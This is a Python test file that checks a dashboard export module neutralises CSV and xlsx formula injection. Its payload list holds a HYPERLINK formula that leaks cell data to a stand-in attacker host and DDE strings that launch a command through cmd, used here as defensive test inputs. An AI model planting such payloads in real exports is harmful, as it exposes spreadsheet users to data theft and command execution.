"""CSV injection: an export's cells that a spreadsheet would run as formulas come out inert.

The payloads are the ones an insider can plant in any free-text field that reaches a table
(OWASP's CSV-injection list): formulas, DDE commands, `@` functions, arithmetic that starts with
a minus, and tab or carriage-return prefixes. Both formats are read back as bytes: the CSV through
the csv module, the xlsx by unzipping its sheet XML (an `<f>` element is a formula)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pandas as pd
import polars as pl
import pytest

from dashboards import exports
from dashboards.privacy import protect_individuals

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    df = pd.DataFrame(
        {
            "employee_key": [f"0000000{i}" for i in range(len(PAYLOADS))],
            "org_unit_code": ["BR001-D01"] * len(PAYLOADS),
            "note": PAYLOADS,
            "delta": [-3, 2, -1, 0, 5, -7, 1],
            "rate": [-0.25, 0.5, 1.0, -1.5, 0.0, 2.0, 3.0],
        }
    )
    return protect_individuals(df, "admin")


def _sheet_xml(data: bytes) -> tuple[str, list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        names = z.namelist()
        shared = (
            z.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in names
            else ""
        )
    strings = [
        re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<si>(.*?)</si>", shared, flags=re.DOTALL)
    ]
    return sheet, strings


def _unescape(text: str) -> str:
    return (
        text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", '"')
        .replace("&apos;", "'")
        .replace("&amp;", "&")
    )


def test_csv_cells_that_start_like_a_formula_get_a_quote() -> None:
    rows = list(
        csv.reader(io.StringIO(exports.to_csv_bytes(_frame()).decode("utf-8-sig"), newline=""))
    )
    header, body = rows[0], rows[1:]
    notes = [r[header.index("note")] for r in body]
    assert notes == ["'" + p for p in PAYLOADS]
    # Every cell of the file is inert: none starts with a formula character.
    for row in body:
        for cell, column in zip(row, header, strict=True):
            if column in ("delta", "rate"):
                continue  # numbers stay numbers, negative ones included
            assert not cell.startswith(exports.FORMULA_STARTS), cell
    assert [int(r[header.index("delta")]) for r in body] == [-3, 2, -1, 0, 5, -7, 1]
    assert float(body[0][header.index("rate")]) == -0.25


def test_xlsx_holds_strings_never_formulas() -> None:
    data = exports.to_excel_bytes(_frame())
    sheet, strings = _sheet_xml(data)
    assert "<f>" not in sheet and "<f " not in sheet, "a cell was written as a formula"
    texts = {_unescape(s) for s in strings}
    for payload in PAYLOADS:
        stored = "'" + payload
        # xlsx stores a carriage return as _x000D_ inside shared strings.
        assert stored in texts or stored.replace("\r", "_x000D_") in texts, payload
        assert payload not in texts
    # Real negative numbers are number cells (no t="s"), so sums over them still work.
    back = pl.read_excel(io.BytesIO(data))
    assert back["delta"].to_list() == [-3, 2, -1, 0, 5, -7, 1]
    assert back["rate"].dtype == pl.Float64
    assert back["note"].to_list()[0] == "'" + PAYLOADS[0]


def test_headers_and_text_columns_of_any_dtype_are_neutralised() -> None:
    df = pd.DataFrame({"=evil()": pd.Series(["@x", "ok", None], dtype="string"), "n": [1, -2, 3]})
    df.attrs["privacy"] = "aggregate"
    rows = list(csv.reader(io.StringIO(exports.to_csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=evil()", "n"]
    assert [r[0] for r in rows[1:]] == ["'@x", "ok", ""]
    sheet, strings = _sheet_xml(exports.to_excel_bytes(df))
    assert "<f>" not in sheet and "'=evil()" in {_unescape(s) for s in strings}


@pytest.mark.parametrize("fmt", sorted(exports.FORMATS))
def test_a_formula_string_is_not_left_live_in_either_format(fmt: str) -> None:
    data = exports.export_bytes(_frame(), fmt)
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert (
            "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
        )
    else:
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
